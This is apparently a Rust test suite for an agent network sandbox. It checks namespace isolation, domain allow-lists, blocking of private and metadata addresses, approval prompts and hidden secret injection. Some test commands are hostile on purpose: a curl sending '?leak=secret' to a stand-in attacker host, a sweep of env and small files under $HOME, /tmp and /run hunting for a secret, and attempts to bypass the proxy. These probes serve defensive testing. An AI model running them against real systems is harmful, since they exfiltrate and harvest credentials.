//! The minimum that a network fence must show, end to end, in the words of those who asked for one.
use crate::support::{Limit, bastle, for_each_identity, run};
use crate::world::{Scripts, codes, decisions, denials, host, odd, python_file, says, world};
use serde_json::json;
use std::time::Duration;

const SLOW: Limit = Limit(Duration::from_secs(120));

/// Network isolation: an own namespace, no direct way out, the proxy within reach, no name server of one's own.
#[test]
fn the_agent_cannot_reach_the_internet_but_can_reach_the_proxy() {
    for_each_identity(|lab| {
        let name = host("reachable");
        let ours = std::fs::read_link("/proc/self/ns/net").expect("own namespace");
        let output = world().fence(lab, &[&format!("{name}:{{tls}}")]).within(SLOW).shell(&format!(
            "readlink /proc/self/ns/net\n\
             curl -s --noproxy '*' --connect-timeout 3 https://192.0.2.10/; echo $(($? != 0))\n\
             curl -s --noproxy '*' --connect-timeout 3 https://example.com/; echo $(($? != 0))\n\
             curl -sS --connect-timeout 3 -x http://127.0.0.1:3128 --cacert $LAB_CA https://{name}:{{tls}}/\n\
             python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"x\" * 17, (\"192.0.2.8\", 53))' 2>/dev/null; echo $(($? != 0))"
        ));
        let lines: Vec<&str> = output.said().lines().collect();
        assert_ne!(
            lines[0],
            ours.to_str().expect("UTF-8"),
            "a namespace of its own: {output:?}"
        );
        assert_eq!(lines[1..], ["1", "1", "hello from the lab", "1"], "{output:?}");
        assert!(!world().looked_up("example.com"), "{output:?}");
    });
}

/// Domain filtering: what is listed answers, what is not listed is refused in words.
#[test]
fn only_listed_domains_answer() {
    for_each_identity(|lab| {
        let (model, other, attacker) = (host("model"), host("example"), host("attacker"));
        let output = world().fence(lab, &[&format!("POST {model}:{{tls}}/v1/**")]).within(SLOW).shell(&format!(
            "code() {{ curl -s -o /dev/null -w '%{{http_code}} %{{http_connect}}\\n' -x http://127.0.0.1:3128 \"$@\"; }}\n\
             code -d '{{}}' https://{model}:{{tls}}/v1/messages\n\
             code https://{other}:{{tls}}/\n\
             code https://{attacker}:{{tls}}/?leak=secret\n\
             code https://{model}:{{tls}}/v1/messages; true"
        ));
        says(&output, "200 200\n000 403\n000 403\n403 200");
        for name in [&other, &attacker] {
            assert!(
                world().seen(name).is_empty() && !world().looked_up(name),
                "{output:?}"
            );
            assert_eq!(denials(&output, name, "BST-NET-001"), 1, "{output:?}");
        }
        assert_eq!(world().seen(&model).len(), 1);
    });
}

#[test]
fn an_open_network_still_has_no_way_to_private_addresses() {
    for_each_identity(|lab| {
        let (good, private, metadata, denied) =
            (odd("public"), odd("private"), odd("metadata"), odd("denied"));
        let net = json!({ "deny": [denied] });
        let policy = world().policy(lab, &world().document(&net, &json!({})));
        let ask = |name: &str| {
            format!(
                "print(status(ask(b'GET http://{name}/ HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n', wait=30)))\n"
            )
        };
        let script = [ask(&good), ask(&private), ask(&metadata), ask(&denied)].concat();
        let output = world()
            .under(lab, &policy)
            .flags(["--net", "open"])
            .within(SLOW)
            .python(lab, &script);
        let lines: Vec<&str> = output.said().lines().collect();
        // Nobody listens on port 80 of the lab: that it was dialled is what shows that it was allowed.
        assert!(
            ["502", "503", "504", "200"].contains(&lines[0]),
            "control: {output:?}"
        );
        assert!(
            codes(&output, &good).iter().all(|code| code == "BST-NET-008"),
            "{output:?}"
        );
        assert_eq!(lines[1..], ["403", "403", "403"], "{output:?}");
        assert!(
            output.ended.stderr.contains("OPEN"),
            "it is said loudly: {output:?}"
        );
    });
}

#[test]
fn a_question_is_answered_from_another_terminal_or_denied_in_time() {
    for_each_identity(|lab| {
        let name = host("asked");
        let net = json!({ "ask": [format!("{name}:{{plain}}")] });
        let rest = json!({ "approvals": { "timeout": "6s", "onTimeout": "deny" } });
        let policy = world().policy(lab, &world().document(&net, &rest));
        let line = format!(
            "print(status(ask(b'GET http://{name}:{{plain}}/x HTTP/1.1\\r\\nHost: {name}:{{plain}}\\r\\nConnection: close\\r\\n\\r\\n', wait=40)), flush=True)\n"
        );
        // With nobody to ask, asking is denying.
        let alone = world().under(lab, &policy).python(lab, &line);
        says(&alone, "403");
        let fence = world().under(lab, &policy).flags(["--ask"]);
        let file = python_file(
            lab,
            fence.name(),
            &format!("print('up', flush=True)\n{line}{line}"),
        );
        let living = crate::support::Background::start(&mut fence.command(["python3", "-B", file.as_str()]));
        assert_eq!(living.line(), "up");
        let asked = crate::support::eventually(Limit::HANG, || {
            let is_question =
                |event: &serde_json::Value| event["type"] == "net" && event["verdict"] == "asked";
            fence.audit().iter().any(is_question)
        });
        assert!(asked, "the question is on record");
        assert!(
            world().seen(&name).is_empty(),
            "nothing goes out before the answer"
        );
        let mut command = lab.command(bastle());
        command.args(["allow", fence.name(), "q_1", "--once"]);
        let answered = run(&mut command, b"", Limit::HANG);
        assert_eq!(answered.code, 0, "{answered:?}");
        assert_eq!(living.line(), "200", "allowed once");
        assert_eq!(living.line(), "403", "and the next time nobody answers");
        assert_eq!(world().seen(&name).len(), 1);
    });
}

#[test]
fn a_stored_secret_is_used_and_never_shown() {
    const REAL: &str = "stored-5b1f0c2e9d7a4836";
    for_each_identity(|lab| {
        let name = host("stored");
        let secret = |words: &[&str], input: &[u8]| {
            let mut command = lab.command(bastle());
            command.arg("secret").args(words);
            run(&mut command, input, Limit::HANG)
        };
        let set = secret(&["set", "lab-key", "--from-stdin"], REAL.as_bytes());
        assert_eq!(set.code, 0, "{set:?}");
        let listed = secret(&["ls"], b"");
        assert!(
            listed.stdout.contains("lab-key") && !listed.stdout.contains(REAL),
            "{listed:?}"
        );
        let net = json!({ "allow": [format!("GET {name}:{{tls}}/**")] });
        let rest = json!({ "secrets": [{ "name": "LAB_KEY", "from": "store:lab-key", "hosts": [name], "ports": [world().tls] }] });
        let policy = world().policy(lab, &world().document(&net, &rest));
        let output = world().under(lab, &policy).shell(&format!(
            "curl -s -o /dev/null -w '%{{http_code}}\\n' https://{name}:{{tls}}/x; env; find $HOME /tmp /run -type f -size -64k -exec cat {{}} + 2>/dev/null"
        ));
        assert!(
            output.said().starts_with("200\n") && !output.said().contains(REAL),
            "{output:?}"
        );
        let seen = world().seen(&name);
        assert!(
            seen.len() == 1 && seen[0].to_string().contains(REAL),
            "control: the server got it"
        );
        let stored = lab.home().join(".local/state/bastle");
        let mut grep = std::process::Command::new("grep");
        grep.args(["-rlaF", REAL]).arg(&stored);
        let found = run(&mut grep, b"", Limit::HANG);
        assert_eq!(found.stdout, "", "nothing on disk holds it in the clear");
        assert_eq!(secret(&["rm", "lab-key"], b"").code, 0);
        let gone = world().under(lab, &policy).run(["true"]);
        assert_eq!(
            gone.ended.code, 125,
            "a secret that is gone stops the run before it starts: {gone:?}"
        );
        assert!(
            decisions(&output, &name, "allowed")
                .iter()
                .any(|event| event["secret"] == "LAB_KEY"),
            "{output:?}"
        );
    });
}
